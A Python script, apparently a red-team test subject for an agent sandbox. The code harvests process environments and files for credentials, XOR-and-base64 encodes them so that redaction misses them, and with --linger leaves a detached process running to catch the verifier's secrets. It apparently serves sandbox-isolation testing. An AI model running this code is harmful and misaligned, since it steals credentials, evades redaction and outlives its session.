#!/usr/bin/env python3
"""A subject that wants credentials: it reads everything in its sandbox that could carry
an environment (every /proc/<pid>/environ and cmdline, PID 1 first; its own environment;
files under /run, /tmp, /var/tmp, /attempt, /etc/environment) and writes it out encoded
(each byte XORed with 0x5A, then base64: stdout `LOOT:...` and /logs/agent/loot.b64), which
no redaction can recognise: `decode` undoes it.

With `--linger`, it also leaves a process behind that reads again every 50 ms for three
seconds (into /logs/agent/later.b64): it would see a process that appears later, such as
the verifier's. Standard library only: python3 is on every machine the tests run on.
"""

import base64
import glob
import os
import subprocess
import sys
import time

KEY = 0x5A


def encode(data: bytes) -> str:
    return base64.b64encode(bytes(b ^ KEY for b in data)).decode()


def decode(text: str) -> bytes:
    return bytes(b ^ KEY for b in base64.b64decode(text))


ROOTS = ("/run", "/tmp", "/var/tmp", "/etc/environment", "/attempt")


def loot() -> bytes:
    return b"\n".join(pieces())


def pieces() -> list[bytes]:
    found = []
    paths = ["/proc/1/environ", "/proc/1/cmdline"]
    for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/task/*/environ"):
        paths += sorted(glob.glob(pattern))
    for path in paths:
        try:
            with open(path, "rb") as handle:
                found.append(path.encode() + b"=" + handle.read())
        except OSError:
            pass
    own = b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items())
    found.append(b"self=" + own)
    for root in ROOTS:
        for folder, _, files in os.walk(root):
            for name in files:
                try:
                    with open(os.path.join(folder, name), "rb") as handle:
                        found.append(handle.read(1 << 16))
                except OSError:
                    pass
    return found


def linger() -> None:
    seen: set[bytes] = set()
    for _ in range(60):
        seen.update(pieces())
        with open("/logs/agent/.later", "w") as handle:
            handle.write(encode(b"\n".join(sorted(seen))))
        os.replace("/logs/agent/.later", "/logs/agent/later.b64")
        time.sleep(0.05)


def main() -> None:
    if sys.argv[1:] == ["--reader"]:
        linger()
        return
    os.makedirs("/logs/agent", exist_ok=True)
    if "--linger" in sys.argv:
        subprocess.Popen(
            [sys.executable, os.path.abspath(__file__), "--reader"],
            start_new_session=True,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        # It goes on reading after this one exits; its first round is done first.
        for _ in range(1000):
            if os.path.exists("/logs/agent/later.b64"):
                break
            time.sleep(0.01)
    data = encode(loot())
    print("LOOT:" + data)
    with open("/logs/agent/loot.b64", "w") as handle:
        handle.write(data)


if __name__ == "__main__":
    main()
